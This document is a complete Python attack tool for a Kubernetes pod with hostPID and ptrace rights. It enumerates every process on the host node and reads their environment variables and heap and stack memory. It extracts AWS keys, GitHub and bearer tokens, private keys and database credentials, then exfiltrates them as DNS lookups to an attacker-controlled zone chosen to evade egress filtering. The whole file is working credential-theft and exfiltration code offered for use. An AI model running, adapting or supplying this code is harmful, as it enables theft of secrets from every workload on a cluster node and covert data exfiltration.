#!/usr/bin/env python3
"""hostpid_memory_sweep - sweep host processes visible through hostPID.

In a pod with hostPID: true and CAP_SYS_PTRACE every process on the node is
in our PID namespace.  Attach to each one, read its environment and its
heap/stack mappings, pick out credentials, and send what was found out as
DNS lookups under our zone (egress to :53 is almost never filtered).
"""
import argparse
import ctypes
import ctypes.util
import logging
import os
import re
import socket
import sys
import time
import zlib

LOG = logging.getLogger("sweep")

PTRACE_ATTACH = 16
PTRACE_DETACH = 17
MAX_REGION = 64 << 20

PATTERNS = {
    "aws_key": re.compile(rb"AKIA[0-9A-Z]{16}"),
    "aws_secret": re.compile(rb"(?:AWS_SECRET_ACCESS_KEY|aws_secret_access_key)\s*[=:]\s*([A-Za-z0-9/+]{40})"),
    "gh_token": re.compile(rb"gh[pousr]_[A-Za-z0-9]{36}"),
    "bearer": re.compile(rb"Bearer\s+([A-Za-z0-9\-_.=]{30,})"),
    "private_key": re.compile(rb"-----BEGIN (?:RSA |EC |OPENSSH )?PRIVATE KEY-----[\s\S]{64,4096}?-----END"),
    "db_url": re.compile(rb"(?:postgres|mysql|mongodb)(?:ql)?://[^\s:/]+:[^\s@/]+@[^\s\"']+"),
}
ENV_KEYS = re.compile(rb"^(?:[A-Z0-9_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_KEY|ACCESS_KEY)[A-Z0-9_]*)=(.+)$")

libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long


def host_pids(skip_self_ns=True):
    own_ns = os.readlink("/proc/self/ns/pid")
    own_mnt = os.readlink("/proc/self/ns/mnt")
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            if skip_self_ns and os.readlink(f"/proc/{entry}/ns/mnt") == own_mnt:
                continue
            yield int(entry)
        except OSError:
            continue
    LOG.debug("own pid ns %s", own_ns)


def scan_environ(pid, hits):
    try:
        with open(f"/proc/{pid}/environ", "rb") as fh:
            for var in fh.read().split(b"\0"):
                if ENV_KEYS.match(var):
                    hits.add(("env", var[:300]))
    except OSError:
        pass


def writable_regions(pid):
    with open(f"/proc/{pid}/maps") as fh:
        for line in fh:
            parts = line.split()
            addr, perms = parts[0], parts[1]
            name = parts[5] if len(parts) > 5 else ""
            if "rw" not in perms or (name and name not in ("[heap]", "[stack]")):
                continue
            start, end = (int(x, 16) for x in addr.split("-"))
            if end - start <= MAX_REGION:
                yield start, end


def scan_memory(pid, hits):
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        LOG.debug("attach %d failed: errno %d", pid, ctypes.get_errno())
        return
    try:
        os.waitpid(pid, 0)
        with open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for start, end in writable_regions(pid):
                try:
                    mem.seek(start)
                    chunk = mem.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                for kind, rx in PATTERNS.items():
                    for m in rx.finditer(chunk):
                        hits.add((kind, m.group(0)[:4096]))
    except ChildProcessError:
        pass
    finally:
        libc.ptrace(PTRACE_DETACH, pid, None, None)


def dns_send(zone, node, blob, delay):
    data = zlib.compress(blob, 9).hex()
    labels = [data[i:i + 60] for i in range(0, len(data), 60)]
    session = format(int(time.time()) & 0xFFFFFF, "x")
    socket.setdefaulttimeout(2)
    for seq, label in enumerate(labels):
        qname = f"{label}.{seq}.{len(labels)}.{session}.{node}.{zone}"
        try:
            socket.getaddrinfo(qname, 53, proto=socket.IPPROTO_UDP)
        except (socket.gaierror, OSError):
            pass  # NXDOMAIN is expected; the query already reached our server
        time.sleep(delay)
    return len(labels)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--zone", default="t.cdn-metrics.cloud")
    ap.add_argument("--delay", type=float, default=0.05)
    ap.add_argument("--limit", type=int, default=0, help="stop after N processes")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    hits, seen = set(), 0
    for pid in host_pids():
        try:
            comm = open(f"/proc/{pid}/comm").read().strip()
        except OSError:
            continue
        scan_environ(pid, hits)
        scan_memory(pid, hits)
        seen += 1
        LOG.debug("%d %s -> %d hits so far", pid, comm, len(hits))
        if args.limit and seen >= args.limit:
            break
    LOG.info("%d processes, %d unique hits", seen, len(hits))
    if not hits:
        return 0
    blob = b"\n".join(kind.encode() + b"\t" + value for kind, value in sorted(hits))
    node = re.sub(r"[^a-z0-9-]", "-", socket.gethostname().lower())[:30]
    sent = dns_send(args.zone, node, blob, args.delay)
    LOG.info("sent %d labels", sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
